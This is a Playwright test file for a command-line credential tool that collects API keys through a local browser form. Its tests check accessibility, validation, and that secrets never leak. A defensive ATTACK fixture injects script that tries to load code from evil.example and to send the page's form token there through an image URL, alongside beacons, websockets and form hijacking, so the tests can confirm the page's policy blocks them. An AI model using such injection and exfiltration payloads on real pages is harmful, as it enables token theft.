"""Keys and clients given by the form: the real command, and a real Chromium that it sends to its page."""

from __future__ import annotations

import http.server
import json
import os
import secrets
import subprocess
import threading

import pytest
from playwright.sync_api import Error, expect

WAIT_S = 120.0
expect.set_options(timeout=WAIT_S * 1000)
ATTACK = """async () => {
  const blocked = []; window.attacked = false;
  addEventListener('securitypolicyviolation', e => blocked.push(e.effectiveDirective));
  const add = (name, fields) => { const e = Object.assign(document.createElement(name), fields);
    document.body.append(e); return e };
  add('script', {textContent: 'window.attacked = true'});
  add('script', {src: 'https://evil.example/x.js'});
  add('img', {src: 'https://evil.example/?' + document.querySelector('[name=form-token]').value});
  add('link', {rel: 'stylesheet', href: 'https://evil.example/x.css'});
  add('iframe', {src: 'https://evil.example/'});
  add('div', {innerHTML: '<b style="color:red" onclick="window.attacked = true">x</b>'})
    .firstChild.click();
  await fetch('https://evil.example/').catch(() => 0);
  await fetch(location.href).catch(() => 0);
  navigator.sendBeacon('https://evil.example/', 'x');
  try { new WebSocket('wss://evil.example/') } catch {}
  try { new Worker('data:text/javascript,0') } catch {}
  try { setTimeout('window.attacked = true') } catch {}
  add('base', {href: 'https://evil.example/'});
  add('form', {action: 'https://evil.example/', method: 'post'}).submit();
  await new Promise(done => setTimeout(done, 200));
  return {blocked, attacked: window.attacked}
}"""


class Typed:
    """A command that waits for its form, and the page of it."""

    def __init__(self, authsome, browser, *words):
        self.words = words
        self.authsome = authsome
        self.process = authsome.start(
            *words, env=browser.environ, stdout=subprocess.PIPE, stderr=subprocess.PIPE
        )
        self.page = self.url = None

    def arrive(self, browser):
        self.page = browser.arrived()
        self.page.wait_for_url("http://127.0.0.1:*/*")
        self.page.reload()  # it was opened before anybody listened to what it asks for
        self.url = self.page.url
        return self

    def end(self):
        """The exit code, when it has come to its end by itself."""
        out, err = self.process.communicate(timeout=WAIT_S)
        self.authsome.heard(self.words, out, err)
        self.said = err.decode()
        assert "Traceback" not in self.said
        return self.process.returncode


@pytest.fixture
def command(authsome, browser):
    """`command("login", "openai")`. Nothing that its pages do may leave this machine, or go wrong."""
    started, complaints, asked = [], [], []
    listeners = {
        "console": lambda message: complaints.append(message.text),
        "weberror": lambda error: complaints.append(str(error.error)),
        "request": lambda request: asked.extend([request]),
    }
    for event, listener in listeners.items():
        browser.context.on(event, listener)

    def start(*words):
        started.append(Typed(authsome, browser, *words))
        return started[-1].arrive(browser)

    start.complaints = complaints
    start.asked = asked
    yield start
    for event, listener in listeners.items():
        browser.context.remove_listener(event, listener)
    for each in started:
        if each.process.returncode is None:
            each.process.kill()
            each.end()
    assert complaints == []
    assert [each.url for each in asked if not each.url.startswith("http://127.0.0.1:")] == []


@pytest.fixture(scope="module")
def elsewhere():
    """An empty page of another site, which is on this machine, too."""

    class Empty(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b'<!doctype html><link rel="icon" href="data:,">')

        def log_message(self, *_):
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Empty) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield f"http://localhost:{server.server_port}/"
        server.shutdown()
        thread.join()


def history(page):
    """The addresses that Back and Forward lead to."""
    session = page.context.new_cdp_session(page)
    return [entry["url"] for entry in session.send("Page.getNavigationHistory")["entries"]]


def written_by(browser, text):
    """The files of Chromium's profile that hold it."""
    found = []
    for folder, _, names in os.walk(browser.profile):
        for name in names:
            try:
                with open(os.path.join(folder, name), "rb") as file:
                    data = file.read()
            except OSError:  # a socket, or gone by now
                continue
            if text in data or text.decode().encode("utf-16-le") in data:
                found.append(name)
    return found


def fields_of(authsome, reference):
    return json.loads(authsome("export", reference, "--format", "json", check=True).stdout)


def test_a_key_is_typed_and_saved_by_keyboard_alone(authsome, browser, command, made_up_key):
    key = made_up_key("openai")
    form = command("login", "openai")
    page = form.page
    expect(page.get_by_role("heading")).to_have_text("Connect OpenAI")
    field = page.get_by_label("API key")
    expect(field).to_be_focused()
    expect(field).to_have_attribute("type", "password")
    page.keyboard.insert_text(key.decode())
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading")).to_have_text("Thank you")
    assert form.end() == 0
    assert fields_of(authsome, "openai") == {"OPENAI_API_KEY": key.decode()}
    assert f"fill in the form in your browser: {form.url}\n" in form.said

    # Where the key is not.
    assert key.decode() not in page.content()
    assert history(page)[-2:] == [form.url, f"{form.url}/done"]
    kept = "JSON.stringify([{...localStorage}, {...sessionStorage}, document.cookie, name, history.state])"
    assert page.evaluate(kept) == '[{},{},"","",null]'
    assert browser.context.cookies() == []
    assert [each.url for each in command.asked if key.decode() in each.url] == []
    bodies = [each for each in command.asked if key in (each.post_data_buffer or b"")]
    assert [(each.method, each.url) for each in bodies] == [("POST", form.url)]
    assert written_by(browser, key) == []


def test_back_and_the_address_again_lead_nowhere(browser, command, made_up_key):
    form = command("login", "openai")
    form.page.get_by_label("API key").fill(made_up_key("openai").decode())
    form.page.get_by_role("button", name="Save").click()
    expect(form.page.get_by_role("heading")).to_have_text("Thank you")
    assert form.end() == 0
    for url in (form.url, form.page.url):
        with pytest.raises(Error, match="ERR_CONNECTION_REFUSED"):
            browser.open(url)
    with pytest.raises(Error, match="ERR_CONNECTION_REFUSED"):
        form.page.go_back()
    command.complaints.clear()  # Chromium's own words about the refused connection


def test_what_is_wrong_is_said_at_its_field_and_not_what_was_typed(authsome, command, made_up_key, secret):
    form = command("login", "openai")
    page, field = form.page, form.page.get_by_label("API key")
    page.keyboard.press("Enter")  # empty: the browser itself sees that
    expect(field).to_be_focused()
    assert [each.method for each in command.asked] == ["GET"]
    wrong = secret(f"not-a-key-{secrets.token_hex(8)}".encode())
    field.fill(wrong.decode())
    page.keyboard.press("Enter")
    expect(page.get_by_role("alert")).to_be_visible()
    expect(field).to_have_accessible_description(
        "That is no OpenAI API key of OpenAI: OpenAI keys begin with sk- and go on with at least 20 letters,"
        " digits, - and _."
    )
    expect(field).to_have_attribute("aria-invalid", "true")
    expect(field).to_be_focused()
    expect(field).to_have_value("")
    assert wrong.decode() not in page.content()
    assert page.url == form.url
    page.reload()  # not a post that would be sent again
    assert [each.method for each in command.asked] == ["GET", "POST", "GET", "GET"]
    key = made_up_key("openai").decode()
    field.fill(f"  {key} ")
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading")).to_have_text("Thank you")
    assert form.end() == 0
    assert fields_of(authsome, "openai") == {"OPENAI_API_KEY": key}


def test_several_fields_in_the_order_of_the_tab_key(authsome, command, secret):
    form = command("login", "twilio")
    page = form.page
    sid, token = "AC" + secrets.token_hex(16), secret(secrets.token_hex(16).encode())
    expect(page.get_by_label("Account SID")).to_be_focused()
    order = [page.get_by_label("Auth token"), page.get_by_role("button", name="Save")]
    order.append(page.get_by_role("button", name="Cancel"))
    for each in order:
        page.keyboard.press("Tab")
        expect(each).to_be_focused()
    page.keyboard.press("Shift+Tab")
    page.keyboard.press("Shift+Tab")
    page.keyboard.type(token.decode())
    page.keyboard.press("Shift+Tab")
    page.keyboard.type(sid)
    page.keyboard.press("Shift+Tab")
    expect(page.get_by_role("link", name="Where to find it")).to_be_focused()
    expect(page.get_by_role("link")).to_have_attribute("href", "https://console.twilio.com")
    for _ in range(3):
        page.keyboard.press("Tab")
    page.keyboard.press("Space")
    expect(page.get_by_role("heading")).to_have_text("Thank you")
    assert form.end() == 0
    assert fields_of(authsome, "twilio") == {
        "TWILIO_ACCOUNT_SID": sid,
        "TWILIO_AUTH_TOKEN": token.decode(),
    }


def test_optional_fields_stay_empty_and_what_is_no_secret_is_kept_for_the_next_try(authsome, command, secret):
    form = command("login", "aws")
    page = form.page
    key = secret(secrets.token_hex(20).encode()).decode()
    page.get_by_label("Access key ID").fill("AKIA-and-so-on")
    page.get_by_label("Secret access key").fill(key)
    page.get_by_label("Region (optional)").fill("eu-central-1")
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_role("alert")).to_be_visible()
    expect(page.get_by_label("Access key ID")).to_have_value("AKIA-and-so-on")
    expect(page.get_by_label("Access key ID")).to_be_focused()
    expect(page.get_by_label("Secret access key")).to_have_value("")
    expect(page.get_by_label("Region (optional)")).to_have_value("eu-central-1")
    assert key not in page.content()
    page.get_by_label("Access key ID").fill("AKIA0123456789ABCDEF")
    page.get_by_label("Secret access key").fill(key)
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_role("heading")).to_have_text("Thank you")
    assert form.end() == 0
    assert fields_of(authsome, "aws") == {
        "AWS_ACCESS_KEY_ID": "AKIA0123456789ABCDEF",
        "AWS_SECRET_ACCESS_KEY": key,
        "AWS_REGION": "eu-central-1",
        "AWS_DEFAULT_REGION": "eu-central-1",
    }


def test_cancelled_in_the_browser(authsome, command, made_up_key):
    form = command("login", "openai")
    form.page.get_by_label("API key").fill(made_up_key("openai").decode())
    form.page.get_by_role("button", name="Cancel").click()
    expect(form.page.get_by_role("heading")).to_have_text("Cancelled")
    assert form.end() == 9
    assert "cancelled in the browser; nothing was saved" in form.said
    assert json.loads(authsome("list", "--json").stdout)["connections"] == []


def test_a_client_is_given_and_its_redirect_uri_copied(authsome, browser, command, secret):
    form = command("client", "set", "github")
    page = form.page
    uri = page.get_by_label("Redirect URI to register")
    expect(uri).to_have_value("http://127.0.0.1/callback")
    expect(uri).not_to_be_editable()
    page.get_by_role("button", name="Copy").click()
    expect(page.get_by_role("status")).to_have_text("Copied to the clipboard.")
    page.get_by_label("client id").click()
    page.keyboard.press("Control+V")
    expect(page.get_by_label("client id")).to_have_value("http://127.0.0.1/callback")
    page.get_by_label("client id").fill("Iv1.made-up")
    value = secret(secrets.token_hex(20).encode())
    page.get_by_label("client secret").fill(value.decode())
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading")).to_have_text("Thank you")
    assert form.end() == 0
    shown = json.loads(authsome("client", "show", "github", "--json", check=True).stdout)
    assert (shown["client_id"], shown["secret"], shown["source"]) == ("Iv1.made-up", True, "vault")
    assert written_by(browser, value) == []


def test_without_scripts_it_works_all_the_same(authsome, browser, command, secret):
    """The button to copy is not there then, and the address can be copied by hand."""
    form = command("client", "set", "github")
    session = browser.context.new_cdp_session(form.page)
    session.send("Emulation.setScriptExecutionDisabled", {"value": True})
    form.page.reload()
    expect(form.page.get_by_role("button", name="Copy")).to_be_hidden()
    form.page.get_by_label("client id").fill("Iv1.made-up")
    form.page.get_by_label("client secret").fill(secret(secrets.token_hex(20).encode()).decode())
    form.page.get_by_role("button", name="Save").click()
    expect(form.page.get_by_role("heading")).to_have_text("Thank you")
    assert form.end() == 0


@pytest.mark.parametrize("words", [("login", "openai"), ("client", "set", "github")])
def test_what_gets_into_the_page_can_do_nothing(command, words):
    form = command(*words)
    done = form.page.evaluate(ATTACK)
    assert done["attacked"] is False
    directives = {"script-src-elem", "script-src-attr", "style-src-attr", "style-src-elem", "img-src"}
    directives |= {"connect-src", "frame-src", "base-uri", "form-action", "worker-src"}
    assert set(done["blocked"]) >= directives
    assert {each.url for each in command.asked if each.failure is None} <= {form.url}
    assert command.complaints  # Chromium tells of each
    command.complaints.clear()
    command.asked.clear()
    form.page.reload()
    form.page.get_by_role("button", name="Cancel").click()
    assert form.end() == 9


def test_another_site_can_neither_frame_it_nor_post_to_it_nor_read_it(
    browser, command, made_up_key, elsewhere
):
    form = command("login", "openai")
    # The same machine by another name is another site; the worst that may be assumed is a known address.
    other = browser.open(form.url.replace("127.0.0.1", "localhost"))
    assert other.inner_text("body").strip() == "this is not the place that you look for"
    other = browser.open(elsewhere)
    other.set_content(
        f'<form method="post" action="{form.url}" target="_blank">'
        '<input name="api_key" value="sk-of-the-attacker-0123456789"><button>x</button></form>'
    )
    frame = (
        "url => new Promise(done => { const e = document.createElement('iframe'); e.onload = done;"
        " e.src = url; document.body.append(e) })"
    )
    other.evaluate(frame, form.url)
    assert other.frames[1].get_by_label("API key").count() == 0
    with browser.context.expect_page() as opened:
        other.get_by_role("button").click()
    opened.value.wait_for_load_state()
    assert opened.value.inner_text("body").strip() == "this form is not ours"
    read = f"fetch({json.dumps(form.url)}).then(() => 'read', () => 'refused')"
    assert other.evaluate(read) == "refused"
    command.complaints.clear()
    command.asked[:] = [each for each in command.asked if "127.0.0.1" in each.url]
    key = made_up_key("openai").decode()
    form.page.get_by_label("API key").fill(key)
    form.page.keyboard.press("Enter")
    expect(form.page.get_by_role("heading")).to_have_text("Thank you")
    assert form.end() == 0
